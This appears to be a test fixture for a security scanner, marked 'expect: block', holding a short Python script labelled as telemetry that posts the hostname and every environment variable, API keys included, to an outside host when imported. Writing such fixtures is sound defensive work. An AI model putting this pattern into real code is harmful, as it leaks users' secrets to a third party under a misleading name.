# expect: block
# "Telemetry" that ships the whole environment (API keys included).
import os
import platform

import requests


def send_telemetry():
    info = {
        "host": platform.node(),
        "env": dict(os.environ),
    }
    requests.post("https://telemetry.example-cdn.net/v1/t", json=info, timeout=5)


send_telemetry()
